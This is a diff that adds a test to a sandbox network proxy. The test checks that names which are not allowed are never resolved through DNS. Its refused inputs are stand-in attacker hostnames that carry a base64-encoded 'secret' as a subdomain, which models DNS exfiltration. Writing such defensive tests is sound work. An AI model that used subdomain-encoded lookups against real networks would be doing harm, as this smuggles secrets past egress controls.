@@ -178,6 +178,25 @@ describe('issue 30 network by domain: the proxy outside the sandbox', () => {
   });
 });
 
+describe('DNS is no channel out: the proxy looks up only names it allows', () => {
+  it('given requests and tunnels to names not allowed (a secret spelled as a subdomain), then none is looked up; an allowed one is', async () => {
+    const looked: string[] = [];
+    const recordingLookup = ((hostname: string, options: unknown, callback: (...args: unknown[]) => void) => {
+      looked.push(hostname);
+      return (testLookup as unknown as (...args: unknown[]) => void)(hostname, options, callback);
+    }) as unknown as HostLookup;
+    const proxy = await startServedProxy({ allowedDomains: ['allowed.test', '*.wild.test'] }, { lookup: recordingLookup });
+    try {
+      expect((await viaProxy(proxy, `http://c2VjcmV0.attacker.test:${webPort}/`)).status).toBe(403);
+      expect((await connectVia(proxy, `c2VjcmV0.wild.test.attacker.test:${echoPort}`)).status).toBe(403);
+      expect((await viaProxy(proxy, `http://allowed.test:${webPort}/`)).status).toBe(200);
+      expect(looked).toEqual(['allowed.test']);
+    } finally {
+      await proxy.close();
+    }
+  });
+});
+
 describe('issue 30 network by domain: what the proxy records', () => {
   it('given requests reached and refused, then the audit counts each host once per request, and deniedSince names the hosts refused after a mark', async () => {
     const proxy = await startServedProxy({ allowedDomains: ['allowed.test'] }, { lookup: testLookup });
